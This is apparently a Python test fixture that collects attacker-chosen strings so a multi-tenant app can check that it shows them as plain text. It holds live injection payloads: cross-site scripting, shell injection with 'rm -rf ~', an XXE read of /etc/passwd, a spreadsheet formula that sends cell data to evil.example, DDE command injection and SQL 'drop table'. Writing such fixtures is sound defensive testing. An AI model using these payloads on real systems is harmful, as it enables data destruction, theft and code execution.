"""Names as an attacker would choose them: whatever reads a tenant's text must show these as text."""

from __future__ import annotations

#: What it tries → the text.
HOSTILE: dict[str, str] = {
    "image with a handler": "<img src=x onerror=\"document.title='owned';alert(1)\">",
    "end of a script": "</script><script>document.title='owned';alert(2)</script>",
    "end of a style": "</style><svg onload=alert(3)>",
    "end of a comment": "--><b id=injected>bold</b><!--",
    "end of an attribute": "\"><a id=injected href='javascript:alert(4)'>x</a>",
    "single quotes": "' onmouseover='alert(5)' x='",
    "backtick and dollar": '`${alert(6)}`$(touch owned)`id`; rm -rf ~ & echo "$HOME"',
    "template syntax": "{{ 7*7 }}{% for x in y %}{{ self.__init__.__globals__ }}{# c #}${7*7}#{7*7}",
    "format syntax": "{0.__class__} %s %(x)s %n {resource.id!r}",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "formula with plus": "+1+cmd|' /C calc'!A0",
    "formula with at": "@SUM(1+1)",
    "formula with minus": "-2+3",
    "formula behind a tab": "\t=1+1",
    "right-to-left override": "invoice\u202egnp.exe\u202c\u2066x\u2069",
    "terminal colours": "\x1b[31;1mred\x1b[0m\x1b[2J\x1b[H",
    "terminal title": "\x1b]0;owned\x07\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "eight-bit terminal control": "\x9b31mred\x9d0;owned\x9c",
    "overwriting the line": "FAIL\r\x08\x08\x08\x08PASS\x7f",
    "more lines": "name\n::error::owned\nplf1-00000000000000000000000000000000,pass",
    "line separators": "a\u2028b\u2029c\x85d\x0be\x0cf",
    "null": "before\x00after",
    "lone surrogate": "high \ud83d low \ude00 end",
    "invisible": "a\u200bb\u200dc\ufeffd\u00ade\u3164f\U000e0041g",
    "noncharacters": "x\ufffe\uffff\U0010ffff",
    "combining": "Z\u0351\u0343\u0363\u0363a\u0308\u0300lgo",
    "wide": "東京エンドポイント・本番環境（予備）接続テスト",
    "emoji": "👩‍💻 🏴 🇩🇪 done",
    "markdown": "[x](javascript:alert(7)) ![i](https://evil.example/p.png) | cell | <https://evil.example>",
    "entity": "&lt;b&gt; &amp; &#x3c;script&#x3e; &quot;",
    "xml": "]]><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "json": '","outcome":"pass","x":"\\',
    "sql": "'; drop table endpoints; --",
    "prototype": "__proto__",
    "very long": "x" * 5000,
}


def every_name() -> str:
    """All of them in one text."""
    return " ".join(text for what, text in HOSTILE.items() if what != "very long")
